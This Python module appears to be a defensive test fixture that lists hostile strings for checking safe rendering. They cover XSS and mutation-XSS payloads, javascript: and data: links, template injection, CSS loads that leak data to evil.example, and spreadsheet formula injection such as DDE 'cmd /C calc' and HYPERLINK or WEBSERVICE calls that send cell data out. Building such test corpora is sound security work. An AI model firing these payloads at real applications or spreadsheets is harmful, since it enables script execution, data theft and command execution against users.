"""Texts that try to become more than text: markup, script, style, links, templates, spreadsheets, direction marks.

Our own list after the families that OWASP's XSS cheat sheets, the mutation-XSS literature and the CSV injection notes
describe. `pwned()` is what each tries to call; the tests define it in the page and wait for it in vain.
"""

from __future__ import annotations

from typing import Final

_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe",
    "marquee",
)

MARKUP: Final = tuple(f"<{tag} {handler}=pwned()>" for tag in _TAGS for handler in _HANDLERS[:5])

SCRIPT: Final = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import 'data:text/javascript,pwned()'</script>",
    "</script><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script\x0c>pwned()</script\x0c>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script xlink:href=data:,pwned() /></svg>",
    "<script>/*", "*/pwned()</script>",
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    '" autofocus onfocus=pwned() x="',
    "' onmouseover=pwned() x='",
    "` onmouseover=pwned() x=`",
    "\"-pwned()-\"", "'-pwned()-'", "\\'-pwned()//", "${pwned()}", "`${pwned()}`", "{{constructor.constructor('pwned()')()}}",
    "#{pwned()}", "<%= pwned() %>", "[[pwned()]]", "{%raw%}pwned(){%endraw%}", "__proto__", "constructor", "toString",
)  # fmt: skip

MUTATION: Final = (
    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned()&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=pwned()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<template><script>pwned()</script></template>",
    "<xmp><p title=\"</xmp><svg/onload=pwned()>\">",
    "<listing>&lt;img onerror=pwned() src=x&gt;</listing>",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<!--><img src=x onerror=pwned()>-->",
    "<?xml version=\"1.0\"?><x xmlns='http://www.w3.org/1999/xhtml'><script>pwned()</script></x>",
    "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;", "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e", "＜script＞pwned()＜/script＞", "<\u200bscript>pwned()</script>",
    "<img src=x onerror\u2003=pwned()>", "<a id=x><a id=x name=attributes>", "<form id=live><input name=attributes>",
)  # fmt: skip

LINKS: Final = (
    "javascript:pwned()", "JaVaScRiPt:pwned()", "java\u200bscript:pwned()", " javascript:pwned()", "javascript&colon;pwned()",
    "javascript://%0apwned()", "data:text/html,<script>pwned()</script>", "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "vbscript:pwned()", "blob:https://evil.example/x", "//evil.example/x", "https://evil.example/?q=<script>",
    "<a href=javascript:pwned()>x</a>", "<a href='data:text/html,<script>pwned()</script>'>x</a>", "<base href=//evil.example/>",
    "<form action=javascript:pwned()><button>x", "<button formaction=javascript:pwned()>x", "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>", "<iframe srcdoc='<script>pwned()</script>'>", "<iframe src=javascript:pwned()>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg onload=pwned()>'/></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:pwned()>",
)  # fmt: skip

STYLE: Final = (
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/leak)}</style>",
    "<div style=background:url(//evil.example/leak)>x</div>", "x;background:url(javascript:pwned())",
    "expression(pwned())", "</style><style>body{display:none}</style>", "red;}*{display:none", "-moz-binding:url(//evil.example)",
    "url(//evil.example/leak)", "<div style=position:fixed;inset:0;z-index:9999>x</div>",
)  # fmt: skip

LETTERS: Final = (
    "\u05d0\u05d1\u05d2 Hebrew first", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <script>pwned()</script>",
    "e\u0301\u0302\u0303" * 20, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "\U0001f469\u200d\U0001f692 crew", "\ufeffbom", "a\u00adb\u00adc", "ﷺ" * 30,
    "\u200f<img src=x onerror=pwned()>\u200e", "NaN", "null", "undefined", "[object Object]", "-1", "1e309", "0x0",
)  # fmt: skip

FORMULAS: Final = (
    "=1+1", "=HYPERLINK(\"//evil.example?\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2003@x", "\x00=1", "%0A=1+1",
    "=IMPORTXML(\"//evil.example\",\"//a\")", "=DDE(\"cmd\",\"/C calc\",\"x\")", "\"=1+1", "\"\n=1+1", "a,\"=1+1", "a\r\n=1+1,b",
    "=WEBSERVICE(\"//evil.example\")", "-2+3+cmd|' /C calc'!D2", ";=1+1", "|=1+1",
)  # fmt: skip

BIDI: Final = tuple(
    f"safe {mark}<script>pwned()</script>" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
"""Direction overrides: refused in a line, kept as text in a note."""

ALL: Final = tuple(dict.fromkeys(MARKUP + SCRIPT + MUTATION + LINKS + STYLE + LETTERS + FORMULAS + BIDI))
